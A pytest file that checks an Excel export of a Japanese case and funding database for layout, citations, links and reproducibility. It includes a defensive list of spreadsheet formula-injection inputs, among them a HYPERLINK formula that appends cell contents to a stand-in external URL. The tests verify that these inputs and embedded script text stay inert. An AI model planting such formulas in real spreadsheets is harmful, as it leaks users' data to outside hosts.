"""The Excel workbook: what a colleague sees upon opening it, and what never happens in it."""

import csv
import hashlib
import re
from collections.abc import Iterator
from io import BytesIO, StringIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from generator.knowing.index import Index
from generator.model import IN_ORDER, Fund, Statement
from generator.model.vocabulary import FundFamily
from generator.reading.address import Address
from generator.reading.catalog import Catalog, read_catalog
from generator.reading.register import Register
from generator.telling.exports.workbook import CellError, workbook
from tests.built import CONTENT
from tests.door import TOY

FIRST = ["事例", "記述と出典", "テーマ・課題", "使えるお金", "専門部会"]
DESIGNED = {"cases", "funding", "subcommittees"}
KIND_SHEETS = [kind.label for kind in IN_ORDER if kind.id not in DESIGNED]
NAMES = [*FIRST, *KIND_SHEETS, "資料の食い違い", "関わり", "出典", "説明"]


def read(site: Path) -> Workbook:
    return load_workbook(site / "downloads" / "cases.xlsx")


def rows(page: Worksheet) -> list[dict[str, str]]:
    """The rows of a sheet by the names of its columns; an empty cell reads ''."""
    head, *others = ([cell or "" for cell in row] for row in page.iter_rows(values_only=True))
    return [dict(zip(map(str, head), map(str, row), strict=True)) for row in others]


@pytest.fixture(scope="module")
def toy(toy_site: Path) -> Path:
    return toy_site


@pytest.fixture(scope="module")
def real(real_site: Path) -> Workbook:
    return read(real_site)


def texts(book: Workbook) -> Iterator[tuple[str, str]]:
    for page in book.worksheets:
        for row in page.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield str(cell.data_type), str(cell.value)


def test_no_two_columns_of_a_sheet_have_one_head(toy: Path) -> None:
    for sheet in read(toy).worksheets:
        heads = [cell.value for cell in sheet[1]]
        assert len(heads) == len(set(heads)), sheet.title


def test_every_sheet_can_be_filtered_and_keeps_its_head_in_view(toy: Path) -> None:
    book = read(toy)
    assert book.sheetnames == NAMES
    for page in book.worksheets:
        assert page.auto_filter.ref == page.dimensions, page.title
        assert page.freeze_panes in {"C2", "B2"}, page.title
        assert page.print_title_rows == "$1:$1"
        for cell in page[1]:
            assert cell.font.bold
            assert cell.alignment.wrap_text
            assert page.column_dimensions[cell.coordinate.rstrip("1")].width >= 8


def test_codes_stay_text_with_their_zeros(toy: Path) -> None:
    cases = {row["id"]: row for row in rows(read(toy)["事例"])}
    assert cases["urakawa"]["団体コード"] == "016071"
    assert cases["shimoda-higashimatsushima"]["団体コード"] == "222194；042145"
    page = read(toy)["事例"]
    assert {cell.number_format for row in page.iter_rows(min_row=2) for cell in row} == {"@"}


def test_what_is_not_known_is_said(toy: Path) -> None:
    cases = {row["id"]: row for row in rows(read(toy)["事例"])}
    assert cases["sado"]["つまずき"] == "情報未収集"
    assert cases["urakawa"]["つまずき"] != "情報未収集"


def test_every_statement_names_its_source(toy: Path) -> None:
    found = rows(read(toy)["記述と出典"])
    assert [row["記述"] for row in found if row["id"].startswith("shimoda")] == [
        "二つの港町で共同の作業場所を貸し合う。",
        "作業場所の鍵の受け渡しに手間がかかった。",
        "下田市 東松島市",
        "ふたつの海の架空コンソーシアム",
    ]
    assert all(row["出典資料"] and row["出典の場所"] for row in found)


def pages(row: dict[str, str]) -> str:
    """In a column of their own, or among others where few have them."""
    others = dict(line.split("：", 1) for line in row.get(OTHERS, "").splitlines() if "：" in line)
    return row.get("資料のページ") or others.get("資料のページ", "情報未収集")


def test_every_place_of_a_document_has_its_pages(toy: Path) -> None:
    book = read(toy)
    places = {(row["資料番号"], row["場所"]): pages(row) for row in rows(book["出典"])}
    assert places["003", "一覧表1"] == "2頁"
    assert places["003", "教育/保育の章"] == "情報未収集"
    named = [row for row in rows(book["記述と出典"]) if row["出典資料"] != "資料によらない"]
    of_own = ("shimoda-higashimatsushima-report", "東松島市の架空の課、2026年5月")
    said = {row["出典の場所"]: pages(row) for row in named}
    assert said == {name: places.get(("003", name), places[of_own]) for name in said}


def test_the_last_column_leads_to_the_page(toy: Path) -> None:
    for name, folder in (("使えるお金", "money"), ("専門部会", "subcommittees")):
        for row in rows(read(toy)[name]):
            assert row["ページ"] == f"{folder}/{row['id']}/"
            assert (toy / row["ページ"] / "index.html").is_file()


def test_each_fact_about_money_has_its_column(toy: Path) -> None:
    rich, poor = rows(read(toy)["使えるお金"])
    for column, said in {
        "id": "zz-tax",
        "名称": "架空の登録証の発行費用",
        "区分": "特別交付税措置",
        "所管": "架空省",
        "目的": "登録・証明の仕組み；相談窓口",
        "使える主体": "市町村；都道府県",
        "主体について": "架空の計画を作った市町村と都道府県が使える。",
        "概要": "登録証を出す費用の一部を国が受け持つ架空の措置。",
        "率": "措置率は架空の0.4。",
        "上限": "一団体につき300万円まで。",
        "予算額": "120百万円（1億2,000万円）（架空の交付金の内数）／令和7年度当初予算",
        "対象": "登録証の印刷にかかる費用。",
        "対象外": "職員の旅費。",
        "注": "※1（登録証の印刷）印刷は町の中の業者に限る。",
        "特定居住促進計画との結びつき": "架空の促進計画に書かれた取組に限る。",
        "出典": "試験用の制度説明（架空）｜財政の措置\n試験用の制度説明（架空）｜法律の説明",
    }.items():
        assert rich[column] == said, column
    unknown = {column for column, cell in poor.items() if cell == "情報未収集"}
    assert {"所管", "使える主体", "率", "上限", "予算額", "対象", "対象外"} <= unknown


def test_themes_say_what_they_rest_on(toy: Path) -> None:
    found = {row["id"]: row for row in rows(read(toy)["テーマ・課題"])}
    two = found["shimoda-higashimatsushima"]
    assert (two["国の3課題：経費削減"], two["取組テーマ：産業/仕事"], two["取組テーマ：防災"]) == (
        "一覧表○",
        "章",
        "",
    )
    assert two["根拠"].startswith("経費削減：")
    assert "1列目" in two["根拠"]


def test_the_real_workbook_holds_everything(real: Workbook) -> None:
    counts = {page.title: page.max_row - 1 for page in real.worksheets}
    for name, kind in (("事例", "cases"), ("テーマ・課題", "cases"), ("使えるお金", "funding"),
                       ("専門部会", "subcommittees")):  # fmt: skip
        assert counts[name] == len(list((CONTENT / kind).glob("*.yml"))), name
    about = {row["項目"]: row["内容"] for row in rows(real["説明"])}
    dates = {row["最終確認日"] for name in ("事例", "専門部会") for row in rows(real[name])}
    assert about["データの日付"].startswith(max(dates))
    assert about["シート「使えるお金」"].startswith(f"{counts['使えるお金']}行")


def test_money_always_has_a_gist_and_a_source(real: Workbook) -> None:
    assert all(row["概要"] and row["出典"] for row in rows(real["使えるお金"]))


def test_what_hardly_any_row_fills_stands_in_one_column(real: Workbook) -> None:
    """By the rule of four rows in five, whatever the content of today is."""
    about = {row["項目"]: row["内容"] for row in rows(real["説明"])}
    gathered = 0
    for page in real.worksheets:
        found = rows(page)
        for name in list(found[0])[2:]:
            unknown = [row[name] for row in found].count("情報未収集")
            assert name == OTHERS or unknown <= 0.8 * len(found), (page.title, name)
        if OTHERS in found[0]:
            gathered += 1
            names = {line.split("：")[0] for row in found for line in row[OTHERS].splitlines()}
            assert all(f"「{name}」" in about[f"シート「{page.title}」"] for name in names & NAMED)
    assert gathered


def test_a_column_that_nobody_filled_is_named_and_left_out(real: Workbook) -> None:
    left_out = 0
    for row in rows(real["説明"]):
        told = re.search(r"。((?:「[^」]+」)*)は、すべての行で情報未収集のため", row["内容"])
        if told:
            names = told[1].removeprefix("「").removesuffix("」").split("」「")
            left_out += len(names)
            page = real[row["項目"].removeprefix("シート「").removesuffix("」")]
            heads = {cell.value for cell in page[1]}
            assert all(names), row
            assert not heads & set(names), row
        assert bool(told) == ("すべての行で" in row["内容"]), row
    assert left_out


OTHERS = "そのほかの項目"
NAMED = {"課題", "費用・財源", "制度", "つまずき", "上限"}


def test_of_a_column_that_is_gathered_every_cell_is_there(real: Workbook, real_site: Path) -> None:
    text = (real_site / "api" / "v1" / "cases.csv").read_text(encoding="utf-8-sig")
    book = {row["id"]: row for row in rows(real["事例"])}
    for case in csv.DictReader(StringIO(text, newline="")):
        for name in ("課題", "体制", "費用・財源", "制度", "つまずき", "今後"):
            if case[name] == "情報未収集":
                continue
            row, said = book[case["id"]], case[name].removeprefix("'").replace("\r\n", "\n")
            assert row.get(name) == said or f"{name}：{said}" in row[OTHERS], (case["id"], name)


def test_addresses_are_links_where_the_site_has_one() -> None:
    catalog, _ = read_catalog(TOY)
    for given in ("https://kb.example/sub/", "http://kb.example/", None):
        made = workbook(catalog, Index(catalog, Register.load()), Address(given))
        book = load_workbook(BytesIO(made))
        links = [cell for page in book.worksheets for row in page.iter_rows() for cell in row
                 if cell.hyperlink]  # fmt: skip
        if not given or given.startswith("http:"):
            assert not links
            continue
        assert len(links) > 20
        for cell in links:
            link = cell.hyperlink
            assert link
            whole = str(link.target) + (f"#{link.location}" if link.location else "")
            assert whole == cell.value
            assert whole.startswith(given)


def test_hostile_texts_stay_texts(hostile_site: Path) -> None:
    book = read(hostile_site)
    found = list(texts(book))
    assert {kind for kind, _ in found} == {"s"}
    assert any("<script>" in text for _, text in found)
    cells = (cell for page in book.worksheets for row in page.iter_rows() for cell in row)
    for cell in cells:
        if cell.hyperlink:
            assert str(cell.hyperlink.target).startswith("https://kb.example/"), cell.coordinate


HOSTILE = (
    '=HYPERLINK("https://x.example/?"&A1)', "＝1+1", "＋1+1", "-2", "@SUM(1)", "{=1+1}",
    "https://x.example/", "_x0041_ と _x000D_", "007", "1/2", "TRUE", "#REF!",
)  # fmt: skip


def test_nothing_becomes_a_formula_a_number_or_a_link() -> None:
    catalog, _ = read_catalog(TOY)
    case = catalog.cases[0]
    cases = tuple(
        case.model_copy(
            update={
                "id": f"case-{number}",
                "consortium": case.consortium.model_copy(update={"name": text}),
            }
        )
        for number, text in enumerate(HOSTILE)
    )
    hostile = Catalog({**catalog.entries, "cases": cases}, catalog.documents)
    book = load_workbook(BytesIO(workbook(hostile, Index(hostile, Register.load()), Address())))
    cells = [cell for row in book["事例"].iter_rows() for cell in row if cell.value in HOSTILE]
    assert sorted(str(cell.value) for cell in cells) == sorted(HOSTILE)
    assert {(cell.data_type, cell.hyperlink) for cell in cells} == {("s", None)}


def test_a_text_that_excel_would_cut_is_refused() -> None:
    catalog, _ = read_catalog(TOY)
    fund = Fund.model_construct(
        id="long", order=1, name="長い", family=FundFamily.TAX, ministry=None, purposes=(),
        applicants=None, applicants_note=None, rate=None, caps=None, amounts=None, eligible=None,
        excluded=None, notes=(), plan_link=None,
        overview=tuple(Statement(text="𠮷" * 200, source="003/overview") for _ in range(82)),
    )  # fmt: skip
    longer = Catalog({**catalog.entries, "funding": (fund,)}, catalog.documents)
    with pytest.raises(CellError, match=r"使えるお金.*2行目"):
        workbook(longer, Index(longer, Register.load()), Address())


def test_the_same_content_gives_the_same_bytes(toy: Path, toy_site_again: Path) -> None:
    again = toy_site_again / "downloads" / "cases.xlsx"
    first = toy / "downloads" / "cases.xlsx"
    digests = [hashlib.sha256(file.read_bytes()).hexdigest() for file in (first, again)]
    assert digests[0] == digests[1]
    with ZipFile(BytesIO(first.read_bytes())) as parts:
        assert {part.date_time[0] for part in parts.infolist()} == {1980}
    assert read(toy).properties.created.isoformat() == "2026-03-31T00:00:00"
